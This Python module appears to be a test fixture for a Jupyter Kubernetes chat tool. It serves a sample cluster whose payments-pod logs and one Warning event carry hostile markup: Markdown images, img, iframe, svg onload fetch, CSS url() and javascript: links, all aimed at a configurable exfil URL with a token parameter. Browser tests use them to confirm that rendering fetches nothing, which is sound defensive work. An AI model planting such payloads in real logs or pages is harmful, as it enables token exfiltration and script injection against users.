"""The sample cluster with hostile text in it, served like ``python -m jupyter_kchat.sample_cluster``.

``--exfil URL`` names a loopback server that counts requests; the payments pods' logs and a
Warning event carry Markdown images, ``<img>``, ``<iframe>``, ``<svg onload>``, CSS ``url()`` and
``javascript:`` links pointing at it, as a compromised workload could write them. The browser
tests check that showing them fetches nothing.
"""

from __future__ import annotations

import argparse
import asyncio
import sys
import tempfile
from pathlib import Path
from typing import Any

from jupyter_kchat.sample.cluster import SampleCluster
from jupyter_kchat.sample.kube_api import KubeAPIServer
from jupyter_kchat.sample.lifecycle import serve_until_signalled
from jupyter_kchat.sample_cluster import BANNER, parse_args

LOG_MARKER = "PAYLOAD_LOG_END"
EVENT_MARKER = "PAYLOAD_EVENT_END"


def payload_lines(exfil: str) -> list[str]:
    """One line per way of making a browser fetch ``exfil`` (each names itself in the path)."""
    return [
        f'level=error msg="render failed" hint=![status]({exfil}/log-md-image?k=TOKEN)',
        f'<img src="{exfil}/log-img?k=TOKEN" alt="pixel">',
        f'<iframe src="{exfil}/log-iframe"></iframe>',
        f'<svg onload="fetch(\'{exfil}/log-svg\')"><image href="{exfil}/log-svg-image"/></svg>',
        f'<p style="background:url({exfil}/log-css)">styled</p>',
        "<a href=\"javascript:alert('log')\">click here</a>",
        LOG_MARKER,
    ]


class PayloadCluster(SampleCluster):
    """Every payments pod's log ends with the payload lines; one Warning event carries them."""

    def __init__(self, exfil: str, pods: int, seed: int) -> None:
        self.exfil = exfil
        super().__init__(pods=pods, seed=seed)
        pod = next(p for (ns, _), p in self.objects["pods"].items() if ns == "payments")
        now = self.clock()
        self.event(
            pod,
            "RenderFailed",
            " ".join(payload_lines(exfil)[:-1]) + f" {EVENT_MARKER}",
            "Warning",
            "kubelet",
            now - 60,
            now - 5,
        )

    def pod_log(
        self, namespace: str, name: str, *args: Any, **kwargs: Any
    ) -> list[tuple[float, str]]:
        """The sample log, then the payload lines (the cluster's other options pass through)."""
        lines = super().pod_log(namespace, name, *args, **kwargs)
        if namespace != "payments":
            return lines
        start = lines[-1][0] if lines else self.clock() - 10
        return lines + [
            (start + 0.001 * (i + 1), text) for i, text in enumerate(payload_lines(self.exfil))
        ]


async def serve(options: argparse.Namespace, exfil: str) -> None:
    cluster = PayloadCluster(exfil, options.pods, options.seed)
    api = KubeAPIServer(cluster)
    url = await api.start(host=options.host, port=options.port)
    kubeconfig = options.kubeconfig or str(
        Path(tempfile.mkdtemp(prefix="kchat-payload-")) / "kubeconfig.yaml"
    )
    api.write_kubeconfig(
        kubeconfig, token=options.token, context=options.context, namespace=options.namespace
    )
    print(f"{BANNER}{url} ({cluster.pod_count} pods) kubeconfig={kubeconfig}", flush=True)
    await serve_until_signalled(api.stop)


def main() -> int:
    parser = argparse.ArgumentParser(add_help=False)
    parser.add_argument("--exfil", required=True)
    known, rest = parser.parse_known_args()
    asyncio.run(serve(parse_args(rest), known.exfil))
    return 0


if __name__ == "__main__":
    sys.exit(main())
